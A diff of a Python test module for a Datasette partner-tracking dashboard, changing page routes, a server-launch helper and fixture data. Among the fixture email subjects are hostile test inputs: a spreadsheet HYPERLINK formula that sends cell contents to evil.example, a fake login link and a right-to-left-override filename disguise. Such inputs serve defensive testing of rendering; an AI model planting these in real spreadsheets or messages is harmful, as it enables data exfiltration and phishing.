@@ -38,7 +38,7 @@ PAGES = {
     "health": "/partners/partner_health",
     "waiting": "/partners/waiting_on_us",
     "silent": "/partners/silent_now",
-    "asks": "/partners/response_times?_facet=outcome",
+    "asks": "/partners/response_times",
     "partner": "/partners/partners/globex~2Ecom",
     "about": "/partners/about",
     "messages": "/partners/messages",
@@ -51,7 +51,7 @@ def running_datasette(database: Path) -> Iterator[str]:
     with socket.create_server((serve.DEFAULT_HOST, 0)) as probe:
         port = probe.getsockname()[1]
     command = serve.datasette_command(database, metadata_path(), serve.DEFAULT_HOST, port)
-    with subprocess.Popen(  # noqa: S603
+    with subprocess.Popen(
         command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True
     ) as process:
         assert process.stderr
@@ -84,7 +84,13 @@ _AS_OF = "2026-11-23T09:00:00Z"
 _PARTNERS = (
     ("globex.com", "Globex", "ana@acme.example", "gold", "act"),
     ("initech.example", "Initech", "ben@acme.example", None, "watch"),
-    ("umbrella.example", "Umbrella Health Systems and Partners of Greater Europe", None, None, "ok"),
+    (
+        "umbrella.example",
+        "Umbrella Health Systems and Partners of Greater Europe",
+        None,
+        None,
+        "ok",
+    ),
     ("hooli.example", None, "ana@acme.example", "gold", "ok"),
     ("pied-piper.example", None, None, None, "unknown"),
 )
@@ -99,8 +105,7 @@ _SUBJECTS = (
     '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
     "https://evil.example/login",
     "<b>Urgent</b> \u202egnp.exe",
-    "Re: Re: Fwd: Minutes of the steering committee of 3 November, with the open points, the "
-    "owners and the dates we agreed",
+    "Re: Re: Fwd: Minutes of the steering committee of 3 November, its open points and owners",
 )
 
 
@@ -178,7 +183,7 @@ def _message(n: int) -> dict[str, Any]:
             "conversation": f"c{n % 20:02d}af90be31d7", "at": f"2026-11-{n % 20 + 2:02d}T10:00:00Z",
             "at_source": "received", "side": ("us", "them")[n % 2], "subject": _SUBJECTS[n % 5],
             "kind": "human" if n % 4 else "auto_reply", "rule": "auto-submitted",
-            "why_not": None if n % 4 else "auto_reply", "from_address": "bo@globex.com"}  # fmt: skip
+            "why_not": None if n % 4 else "auto_reply", "from_address": "bo@a.example"}  # fmt: skip
 
 
 def _day(n: int) -> dict[str, Any]:
